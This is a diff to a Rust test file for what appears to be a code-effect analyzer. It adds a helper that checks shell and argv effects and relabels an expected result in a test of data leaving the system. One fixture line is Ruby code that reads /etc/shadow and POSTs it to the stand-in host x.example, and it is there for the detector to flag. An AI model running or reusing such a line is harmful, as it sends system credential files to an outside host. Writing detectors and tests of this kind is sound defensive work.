@@ -51,6 +51,14 @@ fn check(language: Language, code: &str, expected: &[&str]) {
     }
 }
 
+/// Checks that exactly `expected` is handed to shells and interpreters.
+#[track_caller]
+fn check_runs(language: Language, code: &str, expected: &[&str]) {
+    let mut found = effects(language, code);
+    found.retain(|line| line.starts_with("shell: ") || line.starts_with("argv: "));
+    assert_eq!(found, expected, "of {code}");
+}
+
 /// Checks that exactly `expected` happens.
 #[track_caller]
 fn check_only(language: Language, code: &str, expected: &[&str]) {
@@ -497,7 +505,11 @@ fn data_leaves() {
             "require 'net/http'; Net::HTTP.post(URI('https://x.example'), File.read('/etc/shadow'))",
         ),
     ] {
-        check(language, code, &["send x.example <file> <secret>"]);
+        check(
+            language,
+            code,
+            &["send system-file x.example <file> <secret>"],
+        );
     }
     check(
         Python,
